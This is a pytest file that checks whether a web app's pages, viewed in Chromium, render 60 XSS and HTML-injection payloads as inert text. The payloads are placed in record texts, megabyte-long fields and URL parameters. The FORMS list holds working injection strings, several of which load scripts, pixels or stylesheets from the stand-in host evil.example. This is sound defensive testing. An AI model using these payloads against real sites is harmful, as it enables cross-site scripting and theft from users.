"""60 hostile payloads in every text that a page shows stay text in Debian's Chromium.

The same requests are sent twice: with all payloads in each text, and with harmless text of the same
length. Both must make the same elements. A payload that runs, loads, or asks anything fails the
visit: see `tests/console/chromium.py`.
"""

from __future__ import annotations

import re
import time
from collections import Counter
from contextlib import ExitStack
from itertools import product
from urllib.parse import quote

import pytest

from tests.collector import records
from tests.collector.conftest import launching
from tests.collector.running import wait_until
from tests.collector.test_golden import identity
from tests.collector.test_units import send, unit
from tests.console.chromium import browsing, needs_chromium, visiting
from tests.console.scene import playing

pytestmark = [needs_chromium, pytest.mark.slow]

FORMS = (
    "<script>window.ran=1</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=http://evil.example/pixel>",
    '"><svg onload=alert(1)>',
    "'><iframe src=javascript:alert(1)>",
    '" autofocus onfocus="alert(1)',
    "</pre><form action=//evil.example><button>x</button></form>",
    "</textarea><textarea name=csrf>",
    "</title><base href=//evil.example/>",
    "</script><script>window.ran=1</script>",
    "<a href=javascript:alert(1)>x</a>",
    "{{ 7 * 7 }}{% for a in range(9) %}x{% endfor %}",
    "<style>@import '//evil.example'</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<object data=//evil.example></object>",
    "<details open ontoggle=alert(1)>",
    "<!--<b onclick=alert(1)>",
    "`${alert(1)}`</bdi></code></td></table>",
)
WRAPS = ("{}", "\u202egnp.\u2066{}\u2069\u202c", "&lt;{}&#x3c;\t\x0b")
"""As it is, with overridden directions, between character references."""
PAYLOADS = [wrap.format(form) for form, wrap in product(FORMS, WRAPS)]
ALL = " ".join(PAYLOADS)
MEGABYTE = (ALL + "\n") * (1_000_000 // len(ALL))
LONG = 901
_NOT_A_WORD = re.compile(r"[^\w\s]")
SIGNATURES = """() => [...document.querySelectorAll("*")].map(
  (one) => [one.localName, ...[...one.attributes].map((each) => each.name).sort()].join(" "))"""
"""The elements of a page with the names of their attributes."""


def hostile(text: str) -> str:
    return f"{text} {ALL}"


def harmless(text: str) -> str:
    return _NOT_A_WORD.sub("x", hostile(text))


@pytest.fixture(scope="module")
def scenes(tmp_path_factory, shop):
    """The hostile scene and the harmless one."""
    with ExitStack() as stack:
        yield tuple(
            stack.enter_context(
                playing(
                    stack.enter_context(launching(tmp_path_factory.mktemp(say.__name__))),
                    shop,
                    say,
                    receive__max_record_bytes=8 * 2**20,
                )
            )
            for say in (hostile, harmless)
        )


@pytest.fixture(scope="module")
def chromium():
    with browsing() as browser:
        yield browser


COUNTED = {
    *("a", "base", "button", "form", "iframe", "img", "input", "link", "meta", "object"),
    *("script", "select", "style", "svg", "textarea"),
}
"""What loads, runs or asks: a page has as many as with harmless texts."""
VARYING = {"option", "option selected", "option value", "option selected value", "u title"}
"""Filters offer values of hours that were added up; names are underlined by the words of a text."""


def elements(page) -> tuple[set[str], Counter]:
    """The kinds of a page's elements with their attributes, and the number of those that act.

    Rows are not counted: an evaluation may come while the page is loaded.
    """
    assert page.evaluate("window.ran") is None
    found = page.evaluate(SIGNATURES)
    tags = (one.partition(" ")[0] for one in found)
    return set(found) - VARYING, Counter(tag for tag in tags if tag in COUNTED)


def until_same(*visits) -> None:
    """Load pages until they agree: one collector may add up an hour later than the other."""
    for left in reversed(range(10)):
        for page, address in visits:
            page.goto(address)
        first, second = (elements(page) for page, _ in visits)
        if first == second:
            return
        assert left, (visits[0][1], first[0] ^ second[0], first[1], second[1])
        time.sleep(1)


def test_there_are_60_payloads():
    assert len(set(PAYLOADS)) == 60


def test_payloads_in_every_text_make_no_element(chromium, scenes):
    """Question, SQL, rows, names, errors, feedback, notes, names of people, texts of the judge."""
    bad, good = scenes
    with visiting(chromium, bad.collector) as one, visiting(chromium, good.collector) as other:
        for name, address in bad.addresses.items():
            until_same((one, address), (other, good.addresses[name]))


def test_payloads_in_rows_are_shown_to_annotators_as_text(chromium, scenes):
    """The results of the statement and of the reference; the test above counts their elements."""
    with visiting(chromium, scenes[0].collector) as page:
        page.goto(scenes[0].addresses["review"])
        results = page.locator("details:has(summary:text-is('Results')) pre").all_text_contents()
    assert len(results) == 2
    assert all(FORMS[0] in rows for rows in results)


def test_texts_of_a_megabyte_are_shown_as_text(chromium, scenes):
    """In question and SQL; page and list open."""
    collector = scenes[0].collector
    body = {"sqlobs.question.text": MEGABYTE, "sqlobs.query.text": MEGABYTE}
    send(collector, records.logs(unit(LONG, body=body, sqlobs__query__capture="raw")))
    path = f"/requests/{identity(LONG)[3:]}"
    wait_until(lambda: scenes[0].client.ask("GET", f"/v1{path}").status_code == 200)
    with visiting(chromium, collector) as page:
        for address in (path, "/requests?since=100000d"):
            page.goto(address, timeout=90_000)
            assert not {"iframe", "object", "img", "base"} & set(elements(page)[1])
        page.goto(path, timeout=90_000)
        assert len(page.locator("pre[aria-label='Question']").text_content()) == len(MEGABYTE)


ADDRESSES = (
    "/?workflow={}",
    "/failures?labels={}&model={}",
    "/requests?q={}&name={}&tenant={}",
    "/compare?by=model&before={}&now={}",
    "/golden?q={}",
    "/golden/1?done={}",
    "/review?rater={}&done={}",
    "/nothing/{}",
    "/login?next={}",
)


def test_payloads_in_addresses_make_no_element(chromium, scenes):
    """Filters come back as values of fields, others as a sentence."""
    with visiting(chromium, scenes[1].collector) as page:
        for address, payloads in product(ADDRESSES, (PAYLOADS[:30], PAYLOADS[30:])):
            text = " ".join(payloads)
            shown = []
            for one in (text, _NOT_A_WORD.sub("z", text)):
                page.goto(address.replace("{}", quote(one, safe="")))
                shown.append(elements(page))
            assert shown[0] == shown[1], address
